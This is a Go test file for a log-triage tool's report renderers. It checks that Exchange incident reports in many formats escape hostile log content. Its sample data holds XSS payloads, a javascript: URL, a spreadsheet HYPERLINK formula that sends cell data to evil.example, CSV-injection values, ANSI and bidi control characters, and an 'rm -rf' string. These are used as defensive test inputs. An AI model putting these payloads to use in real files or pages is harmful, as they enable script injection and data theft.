package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/extriage/extriage/patterns"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// Hostile strings, as a log written by a stranger may hold them.
const (
	hostileScript  = "<script>alert(1)</script>"
	hostileAttr    = `"><img src=x onerror=alert(1)>`
	hostileURL     = "javascript:alert(1)"
	hostileFormula = `=HYPERLINK("http://evil.example/?"&A1,"Click for details")`
	hostileANSI    = "\x1b[31mRED\x1b[0m"
	hostileBidi    = "invoice\u202Efdp.exe"
	japanese       = "山田太郎"
	hebrew         = "שלום עולם"
)

func at(day, hour, minute int) time.Time {
	return time.Date(2024, 5, day, hour, minute, 0, 0, time.UTC)
}

func ptr[T any](v T) *T { return &v }

// The nouns package kinds gives its kinds, as a scan fills them in.
var (
	evtxNoun  = Noun{One: "event log", Many: "event logs", Format: ".evtx"}
	traceNoun = Noun{One: "message trace", Many: "message traces"}
)

// sample is a synthetic result with every case a report must handle: HA
// and mail-flow incidents, several servers, damage, a skipped file, a
// warning, a known incident, and hostile text in every field that comes
// from a log.
func sample() *Result {
	haEvidence := []patterns.Evidence{}
	for i := range 7 {
		sig, rec := "ha.lag-disable-suppressed", uint64(48211+i*4)
		if i%3 == 2 {
			sig = "ha.availability-check-failed"
		}
		haEvidence = append(haEvidence, patterns.Evidence{File: `logs\EX01\Microsoft-Exchange-HighAvailability%4Operational.evtx`,
			Record: rec, Time: at(2, 6+i*4, 0), Signature: sig, Message: "Replay Lag Manager suppressed a request to disable replay lag for DB1\\EX01."})
	}
	incs := []patterns.Incident{
		{
			ID: patterns.ProblemID("ha.lagged-copy-not-lagging", `DB1\EX01`), Pattern: "ha.lagged-copy-not-lagging",
			Title: `Lagged copy DB1\EX01 is not lagging`, Severity: patterns.SeverityHigh, Key: `DB1\EX01`,
			Fields: map[string]any{"database": "DB1", "server": "EX01", "blocked_servers": []string{"EX03", "EX04"},
				"availability_count": 2, "expected_availability_count": 3},
			Count: 7, FirstSeen: at(2, 6, 0), LastSeen: at(3, 6, 0),
			Explanation: "Replay Lag Manager keeps playing down the lagged copy DB1\\EX01: it has fewer available copies than it expects.\n\nThe copies on EX03 and EX04 are Blocked.",
			Remedy: []patterns.Step{
				{Text: "Confirm the lag is disabled.", Command: `Get-MailboxDatabaseCopyStatus 'DB1\EX01' | fl Id,ReplayLagStatus`, Shell: "ems"},
				{Text: "Allow automatic activation on EX03.", Command: "Set-MailboxServer -Identity 'EX03' -DatabaseCopyAutoActivationPolicy Unrestricted -WhatIf",
					Shell: "ems", SideEffects: "Every database copy on EX03 may then be activated automatically, in any site."},
			},
			Evidence: haEvidence,
		},
		{
			ID: patterns.ProblemID("ha.lag-playdown-low-disk", `DB2\EX02`), Pattern: "ha.lag-playdown-low-disk",
			Title: `Lagged copy DB2\EX02 played down: not enough free disk space`, Severity: patterns.SeverityMedium, Key: `DB2\EX02`,
			Fields: map[string]any{"database": "DB2", "free_space_mb": 8123, "delta_mb": -2},
			Count:  2, FirstSeen: at(4, 23, 10), LastSeen: at(4, 23, 40),
			Explanation: "Free space on the log volume of DB2 fell below the play-down threshold.",
			Remedy:      []patterns.Step{{Text: "Find the log folder.", Command: "Get-MailboxDatabase DB2 | fl LogFolderPath"}},
			Evidence: []patterns.Evidence{
				{File: `logs\EX02\HA.evtx`, Record: 130884, Time: at(4, 23, 10), Signature: "ha.lag-playdown", Message: "Free Space 8123"},
				{File: `logs\EX02\HA.evtx`, Record: 130886, Time: at(4, 23, 40), Signature: "ha.lag-playdown", Message: "Free Space 8100"},
			},
		},
		{
			ID: patterns.ProblemID("mailflow.transport-rule-reject", "rule-7|"+hostileAttr), Pattern: "mailflow.transport-rule-reject",
			Title:    "Transport rule " + hostileScript + " | `rm -rf` *rejected* [mail](" + hostileURL + ") from " + hostileAttr,
			Severity: patterns.SeverityHigh, Key: "rule-7|" + hostileAttr,
			Fields: map[string]any{"sender": hostileAttr + "@evil.example", "recipient": hostileFormula,
				"recipient_domain": "contoso.com", "control": "+1", "rule_id": "-2", "server": "EXHUB01",
				"message_ids": []string{"<a1@evil.example>", "@SUM(A1)"}},
			Count: 3, CountUnit: "message", FirstSeen: at(5, 9, 0), LastSeen: at(5, 17, 30),
			Explanation: "A transport rule rejected the message.\nThe rule says: " + hostileANSI + " " + hostileBidi +
				"\n# not a heading\n    not code\n1. not a list\n- not a bullet\n| not | a | table |\nSee " + hostileURL + " and www.evil.example or http://evil.example/x",
			Remedy: []patterns.Step{
				{Text: "Look at the rule " + hostileScript + ".", Command: "Get-TransportRule -Identity \"rule-7\"\n```\n</code></pre><script>alert(1)</script>"},
				{Text: "Trace the message.", Command: "Get-MessageTrackingLog -Sender '" + hostileAttr + "@evil.example'", Shell: "both",
					SideEffects: "None " + hostileScript + " " + hostileANSI + "\n# not a heading"},
			},
			Evidence: []patterns.Evidence{
				{File: "traces/tracking.csv", Line: 57, Time: at(5, 9, 0), Signature: "mailflow.rule-reject", Message: hostileScript + " | " + hostileFormula},
				{File: "traces/tracking.csv", Line: 58, Time: at(5, 12, 0), Signature: "mailflow.rule-reject", Message: "+1 -2 @SUM(A1) " + hostileANSI},
				{File: "traces/tracking.csv", Line: 90, Time: at(5, 17, 30), Signature: "mailflow.fail", Message: hostileBidi + "\r\nsecond line `code` *bold* _it_"},
			},
		},
		{
			ID: patterns.ProblemID("mailflow.autoforward-dropped", "taro@contoso.co.jp"), Pattern: "mailflow.autoforward-dropped",
			Title: "Automatic forwarding from " + japanese + " to an outside address dropped", Severity: patterns.SeverityLow,
			Key:    "taro@contoso.co.jp",
			Fields: map[string]any{"sender": japanese + " <taro@contoso.co.jp>", "recipient": hebrew + " <shalom@example.co.il>", "recipient_domain": "example.co.il"},
			Count:  1, FirstSeen: at(6, 8, 15), LastSeen: at(6, 8, 15), ZoneUnknown: true,
			Explanation: "Outbound automatic forwarding is off for this organisation: " + hebrew + ".",
			Remedy:      []patterns.Step{{Text: "Check the outbound spam policy."}},
			Evidence:    []patterns.Evidence{{File: "traces/message-trace.csv", Line: 12, Time: at(6, 8, 15), Signature: "mailflow.autoforward", Message: japanese + " → " + hebrew}},
		},
		{
			ID: patterns.ProblemID("mailflow.oof-suppressed", "EX02"), Pattern: "mailflow.oof-suppressed",
			Title: "Out-of-office replies suppressed on EX02", Severity: patterns.SeverityInfo, Key: "EX02",
			Fields: map[string]any{"server": "EX02", "message_ids": []string{"<m1@contoso.com>"}},
			Count:  1, FirstSeen: at(6, 10, 0), LastSeen: at(6, 10, 0),
			Explanation: "Out-of-office replies to outside senders are off.",
			Evidence:    []patterns.Evidence{{File: "traces/tracking.csv", Line: 120, Time: at(6, 10, 0), Signature: "mailflow.oof", Message: "OOF suppressed"}},
		},
	}
	for i := range incs {
		inc := &incs[i]
		inc.ProblemID, inc.ID = inc.ID, patterns.EpisodeID(inc.Pattern, inc.Key, inc.FirstSeen)
		inc.EvidenceTotal = len(inc.Evidence)
	}
	// The first incident had more hits than a report keeps: its evidence
	// is the first and the last few of 2,406.
	incs[0].Count, incs[0].EvidenceTotal, incs[0].EvidenceTruncated = 2406, 2406, true
	known := map[string]bool{incs[0].ProblemID: true}
	return &Result{
		Incidents: Wrap(incs, known),
		Summary: Summary{
			Inputs: 5, Records: 12345, Lost: 3, Bytes: 52428800,
			Started: time.Date(2024, 5, 7, 8, 0, 0, 0, time.UTC), Duration: Duration(2500 * time.Millisecond), Partial: true,
			Files: []File{
				{Path: `logs\EX01\Microsoft-Exchange-HighAvailability%4Operational.evtx`, Kind: "evtx", Noun: evtxNoun, Bytes: 20 << 20, Records: 8000},
				{Path: `logs\EX02\HA.evtx`, Kind: "evtx", Noun: evtxNoun, Bytes: 10 << 20, Records: 3000, Lost: 3, Problems: 1},
				{Path: `logs\EX03\HA.evtx`, Kind: "evtx", Noun: evtxNoun, Bytes: 1 << 20, Records: 45, Dirty: true},
				{Path: "traces/tracking.csv", Kind: "trace", Noun: traceNoun, Bytes: 15 << 20, Records: 1200, Dialect: "tracking-csv", Encoding: "utf-16le (bom)", Problems: 1},
				{Path: "traces/message-trace.csv", Kind: "trace", Noun: traceNoun, Bytes: 4 << 20, Records: 100, Dialect: "message-trace", Encoding: "utf-8",
					SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
			},
			Scope: Scope{Tool: Tool{Version: "v1.4.0", Revision: "3c1f0a9e2b7d44aa", Go: "go1.26.0"},
				Catalog:     patterns.Version{Hash: "1a95ca288d9c64bcea0daf9cae313bd6068d347ad33827cb91641ee4233a776f", Files: 2},
				CommandLine: []string{"extriage", "scan", "--min-severity", "low", "--baseline", "base.json", "logs\\" + hostileANSI, "traces/"},
				Filters: Filters{MinSeverity: "low", FailOn: "medium", Baseline: "base.json", Since: "2024-05-01T00:00:00Z",
					RecordsOutsideWindow: 420, IncidentsOutsideWindow: 3, IncidentsBelowMinSeverity: 69, IncidentsBelowFailOn: 2},
				TimeZone: "UTC", TimeZoneAssumed: true},
			Servers: []Server{
				{Name: "EX01", Records: 8000, First: at(1, 0, 0), Last: at(6, 23, 59)},
				{Name: "EX02", Records: 3000, First: at(2, 0, 0), Last: at(6, 12, 0)},
				{Name: "EX03", Records: 45, First: at(3, 1, 0), Last: at(3, 2, 0)},
				{Name: "EXHUB01", Records: 1200, First: at(5, 0, 0), Last: at(5, 23, 0)},
				{Name: "", Records: 100, First: at(6, 0, 0), Last: at(6, 23, 0)},
			},
			Errors: []Error{
				{File: `logs\EX02\HA.evtx`, Chunk: ptr(2), Offset: ptr(int64(143400)), Record: 41813,
					Message: "damaged record: impossible record size 480; records 41813 to 41815 lost"},
				{File: "traces/tracking.csv", Line: 77, Message: "unterminated quoted field " + hostileScript},
			},
			Skipped: []Skipped{
				{File: "logs/notes " + hostileANSI + ".docx", Reason: "not an event log or a message trace"},
			},
			Warnings: []Error{
				{File: "traces/message-trace.csv", Message: "no time zone in the file; times read as UTC"},
			},
		},
	}
}

// goldenCases are the renderings compared with files in testdata/.
var goldenCases = []struct {
	file, format string
	opts         Options
}{
	{"report.txt", "table", Options{}},
	{"report.tty.txt", "table", Options{Terminal: true, Width: 100}},
	{"report.wide.txt", "table", Options{Width: 132}},
	{"report.json", "json", Options{}},
	{"report.ndjson", "ndjson", Options{}},
	{"report.md", "markdown", Options{}},
	{"report.html", "html", Options{}},
	{"report.csv", "csv", Options{}},
	{"report.evidence.csv", "csv", Options{AllEvidence: true}},
	{"report.semicolon.csv", "csv", Options{CSVDelimiter: ';'}},
	{"report.summary.csv", "csv", Options{CSVSummary: true}},
	{"report.all.md", "markdown", Options{AllEvidence: true}},
	{"report.ecs.ndjson", "ecs", Options{}},
	{"report.timesketch.jsonl", "timesketch", Options{}},
}

// ansi matches the colour codes go-pretty writes, stripped from the
// terminal golden file so that a diff of it stays readable.
var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")

// TestGolden compares each format's rendering of the sample with its file
// in testdata/; run with -update after an intended change and review the
// diff.
func TestGolden(t *testing.T) {
	for _, c := range goldenCases {
		t.Run(c.file, func(t *testing.T) {
			got := render(t, c.format, sample(), c.opts)
			if c.opts.Terminal {
				got = ansi.ReplaceAllString(got, "")
			}
			golden := filepath.Join("testdata", c.file)
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test ./report -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("%s differs from %s (run with -update and review the diff)", c.format, golden)
			}
		})
	}
}

func render(t *testing.T, format string, r *Result, o Options) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, format, r, o); err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return b.String()
}

// TestEveryFormatIsGolden keeps a new format from shipping without a golden
// file.
func TestEveryFormatIsGolden(t *testing.T) {
	for name := range Reporters {
		found := false
		for _, c := range goldenCases {
			found = found || c.format == name
		}
		if !found {
			t.Errorf("format %s has no golden file", name)
		}
	}
}

// TestNoControlSequences: no format lets an escape sequence, another C0
// control or a bidi override from a log through, piped or on a terminal.
func TestNoControlSequences(t *testing.T) {
	for _, c := range goldenCases {
		out := render(t, c.format, sample(), c.opts)
		if c.opts.Terminal {
			out = ansi.ReplaceAllStringFunc(out, func(s string) string {
				if s == "\x1b[31m" { // the hostile one: our colours are bold or bright
					return s
				}
				return ""
			})
		}
		if i := strings.IndexFunc(out, func(r rune) bool {
			return r < 0x20 && r != '\n' && r != '\r' || r == 0x7f || isBidiControl(r)
		}); i >= 0 {
			t.Errorf("%s: control character %q at byte %d: %q", c.file, out[i], i, out[max(0, i-40):min(len(out), i+40)])
		}
		if !strings.Contains(out, "RED") {
			t.Errorf("%s: the text around the escape sequence was lost", c.file)
		}
	}
}

// machineFormats are read by programs, which find the partial flag in a
// field; ecs and timesketch write a line per incident or record, so
// nothing for no incident.
var machineFormats = map[string]bool{"json": true, "ndjson": true, "ecs": true, "timesketch": true}

// TestPartialScanSaid: every format says the scan was partial, and none
// says it when nothing was skipped or damaged.
func TestPartialScanSaid(t *testing.T) {
	clean := sample()
	clean.Summary.Errors, clean.Summary.Skipped, clean.Summary.Lost, clean.Summary.Partial = nil, nil, 0, false
	for _, c := range goldenCases {
		if machineFormats[c.format] {
			continue // "partial": true, tested by TestNDJSON, TestFleetFormats and the golden files
		}
		if out := strings.ToLower(render(t, c.format, sample(), c.opts)); !strings.Contains(out, "partial scan") {
			t.Errorf("%s does not say \"partial scan\"", c.file)
		}
		if out := strings.ToLower(render(t, c.format, clean, c.opts)); strings.Contains(out, "partial scan") {
			t.Errorf("%s says \"partial scan\" for a complete scan", c.file)
		}
	}
}

// TestEmptyResult: a scan that found and read nothing still renders in
// every format, and says so.
func TestEmptyResult(t *testing.T) {
	for name := range Reporters {
		out := strings.ToLower(render(t, name, &Result{}, Options{}))
		if !machineFormats[name] && name != "csv" && !strings.Contains(out, "no incident") {
			t.Errorf("%s does not say there is no incident:\n%s", name, out)
		}
	}
}

func TestFormatFor(t *testing.T) {
	tests := []struct{ path, want string }{
		{"r.json", "json"}, {"r.ndjson", "ndjson"}, {"r.md", "markdown"}, {"R.MARKDOWN", "markdown"},
		{"out/r.html", "html"}, {"r.htm", "html"}, {"r.csv", "csv"}, {"r.txt", "table"},
		{"r.xml", ""}, {"r", ""}, {"r.json.gz", ""},
	}
	for _, tt := range tests {
		got, err := FormatFor(tt.path)
		if got != tt.want || (err != nil) != (tt.want == "") {
			t.Errorf("FormatFor(%q) = %q, %v; want %q", tt.path, got, err, tt.want)
		}
		if err != nil && !strings.Contains(err.Error(), ".ndjson") {
			t.Errorf("FormatFor(%q): the error does not name the extensions: %v", tt.path, err)
		}
	}
}

func TestServersOfIncidents(t *testing.T) {
	r := sample()
	got := map[string][]int{}
	for _, v := range serverViews(r) {
		got[v.Name] = v.Incidents
	}
	want := map[string][]int{"EX01": {0}, "EX02": {1, 4}, "EX03": nil, "EXHUB01": {2}, "": {3}}
	for name, w := range want {
		if g, ok := got[name]; !ok || !slices.Equal(g, w) {
			t.Errorf("server %q: incidents %v, want %v", name, g, w)
		}
	}
}

// The summary counts each kind under its own noun: a kind other than evtx
// is never counted as an event log, and one without a noun is named by
// its kind.
func TestInputsText(t *testing.T) {
	xml := Noun{One: "event export", Many: "event exports"}
	tests := []struct {
		files []File
		want  string
	}{
		{[]File{{Kind: "evtx", Noun: evtxNoun}, {Kind: "evtx", Noun: evtxNoun}}, "2 event logs (.evtx)"},
		{[]File{{Kind: "trace", Noun: traceNoun, Dialect: "tracking-log"}, {Kind: "evtx", Noun: evtxNoun},
			{Kind: "trace", Noun: traceNoun, Dialect: "message-trace"}}, "1 event log (.evtx) and 2 message traces (1 message-trace, 1 tracking-log)"},
		{[]File{{Kind: "evtx", Noun: evtxNoun}, {Kind: "eventxml", Noun: xml, Dialect: "Event Viewer XML"}},
			"1 event export (1 Event Viewer XML) and 1 event log (.evtx)"},
		{[]File{{Kind: "wevtutil-text", Dialect: "wevtutil text"}}, "1 wevtutil-text file (1 wevtutil text)"},
		{[]File{{Kind: "trace", Noun: traceNoun}}, "1 message trace (1 unknown format)"},
	}
	for _, tt := range tests {
		s := Summary{Inputs: len(tt.files), Files: tt.files}
		if got := s.inputsText(); got != tt.want {
			t.Errorf("inputsText = %q, want %q", got, tt.want)
		}
	}
}

// Local times of an unknown zone are labelled so in every text format,
// and said before the first incident (R30).
func TestZoneUnknownLabelled(t *testing.T) {
	r := sample()
	for _, f := range []string{"table", "markdown", "html"} {
		out := render(t, f, r, Options{})
		w := strings.Index(out, "1 incident has times local to the exporting machine in an unknown zone")
		first := strings.Index(out, r.Incidents[0].Title)
		if w < 0 || first >= 0 && w > strings.LastIndex(out, r.Incidents[0].Title) {
			t.Errorf("%s: the zone warning is missing or comes after the incidents (warning at %d)", f, w)
		}
		if !strings.Contains(out, "08:15:00 local, zone unknown") && !strings.Contains(out, "08:15:00 (local, zone unknown)") {
			t.Errorf("%s: the incident's times are not labelled local, zone unknown", f)
		}
	}
}
